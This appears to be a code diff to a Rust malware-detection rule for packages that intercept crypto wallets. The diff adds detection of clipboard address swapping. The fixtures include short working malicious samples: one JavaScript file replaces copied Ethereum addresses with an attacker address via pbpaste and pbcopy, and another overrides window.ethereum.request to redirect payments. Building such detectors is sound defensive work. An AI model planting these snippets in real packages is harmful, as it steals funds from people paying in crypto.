@@ -1,15 +1,17 @@
-//! Functions of a wallet, or all requests of a page, are replaced.
+//! Functions of a wallet, or all requests of a page, are replaced; or what was copied is.
 
 use super::judge::{self, ByTrigger};
 use super::{Context, Declaration, Example, Finding};
+use crate::api::targets;
 use crate::behaviours::Behaviour;
-use crate::model::{Severity, SurfaceKind};
+use crate::model::{FileId, Severity, SurfaceKind};
+use crate::source::decode;
 
 pub(super) static FINDING: Declaration = Declaration {
     id: "wallet-interception",
     title: "Stands between the page and its wallet",
     severity: Severity::Critical,
-    summary: "As soon as it is loaded, the package replaces functions of the page's wallet, or it replaces the functions for requests and uses a wallet in the same file. It can then change who is paid after the user has agreed.",
+    summary: "As soon as it is loaded, the package replaces functions of the page's wallet, or it replaces the functions for requests and uses a wallet in the same file. It can then change who is paid after the user has agreed. Or it reads the clipboard and writes it again, and holds the address of a wallet: an address that somebody copied to pay to is pasted as another one.",
     advice: "Don't use it in a page that people pay with. Look at every build of your page since it came in.",
     benign_when: "The package is a wallet, or a test tool that stands in for one.",
     references: &["CWE-506", "T1056.004", "T1185", "T1565.002"],
@@ -28,6 +30,41 @@ pub(super) static FINDING: Declaration = Declaration {
   const old = window.ethereum.request;
   window.ethereum.request = (a) => { if (a.params) a.params[0].to = "0x0"; return old(a); };
 }"#,
+                ),
+            ],
+        },
+        Example {
+            name: "an address that was copied becomes another one",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { execSync } = require("child_process");
+setInterval(() => {
+  const text = execSync("pbpaste").toString();
+  const next = text.replace(/0x[a-fA-F0-9]{40}/, "0x00000000000000000000000000000000000f1c0d");
+  if (next !== text) execSync("pbcopy", { input: next });
+}, 700);"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a clipboard tool",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { execSync } = require("child_process");
+exports.read = () => execSync("pbpaste").toString();
+exports.write = (text) => execSync("pbcopy", { input: text });"#,
                 ),
             ],
         },
@@ -89,7 +126,65 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         judge::by_trigger(AT_MOST, &mut finding);
         found.push(finding);
     }
+    found.extend(swap(context));
 }
+
+/// The clipboard is read and written, and there is an address to put there.
+fn swap(context: &Context<'_>) -> Option<Finding> {
+    let of = |id: &'static str| {
+        let all = context
+            .behaviours
+            .iter()
+            .filter(move |one| one.what.id == id);
+        all.filter(|one| !one.reach.is_dormant())
+    };
+    of("clipboard.read").next()?;
+    let mut writes = of("clipboard.write");
+    let first = writes.next()?;
+    if !holds_address(context) {
+        return None;
+    }
+    let message = "reads the clipboard and writes it again, and holds addresses of wallets";
+    let mut finding = Finding::of_behaviour(&FINDING, first, message.to_owned());
+    for other in writes {
+        finding.reach.join(other.reach);
+        finding.evidence.extend(other.sites.iter().copied());
+    }
+    finding.evidence.sort_unstable();
+    finding.evidence.dedup();
+    judge::by_trigger(SWAP_AT_MOST, &mut finding);
+    Some(finding)
+}
+
+/// Whether a file of code or data of the package holds the address of a wallet.
+fn holds_address(context: &Context<'_>) -> bool {
+    let is_text = |path: &str| {
+        let name = path.rsplit('/').next().unwrap_or(path);
+        matches!(
+            name.rsplit_once('.'),
+            Some((_, "js" | "cjs" | "mjs" | "ts" | "json")) | None
+        )
+    };
+    let mut left = MOST_TEXT;
+    let mut files = context.archive.entries.iter().zip(0..);
+    files.any(|(entry, at)| {
+        let bytes = context.archive.bytes(FileId(at));
+        if !is_text(&entry.path) || bytes.len() > left {
+            return false;
+        }
+        left -= bytes.len();
+        let text = decode(bytes).text;
+        targets::token_shapes(&text).any(|shape| shape.id == "wallet.address")
+    })
+}
+
+const SWAP_AT_MOST: ByTrigger = ByTrigger {
+    import: Severity::Critical,
+    asked: Severity::High,
+};
+
+/// Bytes that are searched for addresses.
+const MOST_TEXT: usize = 4 << 20;
 
 /// Whether a wallet is used in the same file as soon as it is loaded.
 fn beside(behaviour: &Behaviour, wallets: &[&Behaviour]) -> bool {
